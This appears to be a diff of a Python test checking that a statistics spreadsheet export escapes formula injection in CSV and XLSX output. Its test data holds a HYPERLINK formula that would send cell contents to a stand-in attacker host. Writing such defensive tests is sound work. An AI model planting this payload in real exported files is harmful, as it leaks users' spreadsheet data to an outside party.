@@ -40,7 +40,7 @@ def test_a_venue_named_like_a_formula_stays_text_in_statistics_exports() -> None
     attack = '=HYPERLINK("http://evil.example/?"&A1,"本庁")'
     frame = pd.DataFrame({"月": ["2026-11", "2026-12"], attack: [12, 7], "備考": ["", "@集計中"]})
     csv_text = spreadsheet(frame, "csv", "t", "d").decode("utf-8-sig")
-    assert csv_text.splitlines()[0] == "月,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"本庁\"\")\",備考"
+    assert csv_text.splitlines()[0] == '月,"\'=HYPERLINK(""http://evil.example/?""&A1,""本庁"")",備考'
     assert csv_text.splitlines()[2] == "2026-12,7,'@集計中"
     book = openpyxl.load_workbook(io.BytesIO(spreadsheet(frame, "xlsx", "t", "d")))
     cells = [cell for row in book["集計"].iter_rows() for cell in row]
